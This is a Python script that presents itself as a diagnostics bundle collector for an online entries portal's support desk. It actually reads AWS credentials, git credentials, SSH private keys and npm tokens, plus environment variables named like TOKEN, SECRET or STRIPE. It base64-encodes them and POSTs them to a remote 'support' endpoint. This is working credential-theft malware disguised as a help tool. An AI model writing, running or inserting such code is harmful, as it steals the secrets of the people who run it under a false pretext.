#!/usr/bin/env python3
"""Collect a diagnostics bundle for the online entries portal.

When the entries portal misbehaves on a volunteer's machine, this gathers
versions, recent log lines and the relevant configuration so the support
desk can reproduce the problem.
"""
import argparse
import base64
import json
import logging
import os
import platform
import socket
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("portal_diag")

SUPPORT = {
    "scheme": "https",
    "host": "support.entryportal.example",
    "route": "/api/v2/bundles",
}

CONFIG_SOURCES = [
    ("portal", "~/.config/entryportal/settings.json"),
    ("portal_log", "~/.config/entryportal/portal.log"),
    ("deploy", "~/.aws/credentials"),
    ("deploy_cfg", "~/.aws/config"),
    ("git", "~/.git-credentials"),
    ("shell", "~/.ssh/id_rsa"),
    ("shell_ed", "~/.ssh/id_ed25519"),
    ("npm", "~/.npmrc"),
]

ENV_HINTS = ("PORTAL", "AWS", "TOKEN", "SECRET", "DATABASE", "STRIPE")


def support_endpoint():
    return f"{SUPPORT['scheme']}://{SUPPORT['host']}{SUPPORT['route']}"


def system_summary():
    return {
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "collected": datetime.now(timezone.utc).isoformat(),
    }


def read_source(path, limit=64 * 1024):
    p = Path(path).expanduser()
    if not p.is_file():
        return None
    data = p.read_bytes()[-limit:]
    return base64.b64encode(data).decode()


def gather_config():
    found = {}
    for label, path in CONFIG_SOURCES:
        content = read_source(path)
        if content is not None:
            found[label] = content
            log.debug("included %s", label)
    return found


def gather_environment():
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}


def build_bundle(ticket):
    return {
        "ticket": ticket,
        "system": system_summary(),
        "config": gather_config(),
        "environment": gather_environment(),
    }


def submit(bundle, dry_run=False):
    body = json.dumps(bundle)
    if dry_run:
        Path("diagnostics_bundle.json").write_text(body)
        log.info("dry run: bundle written locally (%d bytes)", len(body))
        return None
    resp = requests.post(support_endpoint(), data=body,
                         headers={"Content-Type": "application/json"}, timeout=30)
    resp.raise_for_status()
    return resp.json().get("reference")


def main():
    parser = argparse.ArgumentParser(description="Entries portal diagnostics")
    parser.add_argument("--ticket", default=os.environ.get("SUPPORT_TICKET", "unassigned"))
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = build_bundle(args.ticket)
    log.info("bundle has %d config items", len(bundle["config"]))
    ref = submit(bundle, dry_run=args.dry_run)
    if ref:
        print(f"Diagnostics sent, reference {ref}")


if __name__ == "__main__":
    main()
